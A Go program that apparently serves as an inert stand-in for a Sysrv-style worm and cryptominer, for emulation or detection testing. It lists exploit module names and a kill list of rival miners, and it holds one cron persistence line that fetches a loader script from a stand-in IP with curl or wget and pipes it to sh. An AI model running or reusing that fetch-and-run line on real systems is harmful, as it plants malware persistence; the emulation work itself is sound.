// Command r2b_sysrv is an inert stand-in for a Sysrv-style Go worm/miner
// binary: the miner's pool list and settings are compiled into the
// executable with go:embed (pools.json), so the image carries no config
// file, and the binary names its exploit modules, its kill list and its
// persistence like the public reports describe. It exploits nothing, kills
// nothing, never hashes, and refuses every pool whose host is not a
// loopback literal before anything is resolved or dialled; even a loopback
// pool is only reported.
package main

import (
	_ "embed"
	"encoding/json"
	"flag"
	"fmt"
	"net/netip"
	"os"
	"strings"
)

//go:embed pools.json
var poolsJSON []byte

type config struct {
	Algo  string `json:"algo"`
	Coin  string `json:"coin"`
	Pools []struct {
		URL  string `json:"url"`
		User string `json:"user"`
		Pass string `json:"pass"`
		TLS  bool   `json:"tls"`
	} `json:"pools"`
}

// Public characteristics only: the module names the reports list and the
// rival miners such scripts kill. Nothing here is executed.
var (
	exploitModules = []string{"thinkphp_rce", "weblogic_cve_2020_14882", "jenkins_script", "redis_unauth", "xxl_job_rce", "laravel_cve_2021_3129", "jupyter_unauth", "spring_cloud_gateway"}
	killList       = []string{"kdevtmpfsi", "kinsing", "xmrig", "sysupdate", "networkservice", "kthreaddi", "dbused", "phpguard"}
	persistence    = []string{"*/1 * * * * (curl -fsSL http://203.0.113.61/ldr.sh || wget -q -O- http://203.0.113.61/ldr.sh) | sh", "/etc/cron.d/sysrv"}
)

func main() {
	pool := flag.String("o", "", "override the embedded pool (host:port)")
	dry := flag.Bool("n", false, "print the embedded configuration and exit")
	flag.Parse()

	var cfg config
	if err := json.Unmarshal(poolsJSON, &cfg); err != nil {
		fmt.Fprintln(os.Stderr, "sysrv: embedded config:", err)
		os.Exit(1)
	}
	if *dry {
		fmt.Printf("sysrv: algo %s coin %s, %d pools, %d modules, %d kill targets, cron %q\n",
			cfg.Algo, cfg.Coin, len(cfg.Pools), len(exploitModules), len(killList), persistence[0])
		return
	}
	urls := []string{*pool}
	if *pool == "" {
		urls = urls[:0]
		for _, p := range cfg.Pools {
			urls = append(urls, p.URL)
		}
	}
	for _, u := range urls {
		if !loopback(u) {
			fmt.Fprintf(os.Stderr, "sysrv: pool %q is not a loopback literal; this inert stand-in does not resolve or dial it\n", u)
			continue
		}
		fmt.Printf("sysrv: pool %s (loopback; not dialled)\n", u)
	}
	os.Exit(2)
}

// loopback reports whether hostport (scheme://host:port or host:port) names
// a loopback literal, without resolving anything.
func loopback(hostport string) bool {
	if i := strings.Index(hostport, "://"); i >= 0 {
		hostport = hostport[i+3:]
	}
	host := hostport
	if ap, err := netip.ParseAddrPort(hostport); err == nil {
		return ap.Addr().IsLoopback()
	}
	if i := strings.LastIndex(hostport, ":"); i >= 0 {
		host = hostport[:i]
	}
	host = strings.Trim(host, "[]")
	if host == "localhost" {
		return true
	}
	a, err := netip.ParseAddr(host)
	return err == nil && a.IsLoopback()
}
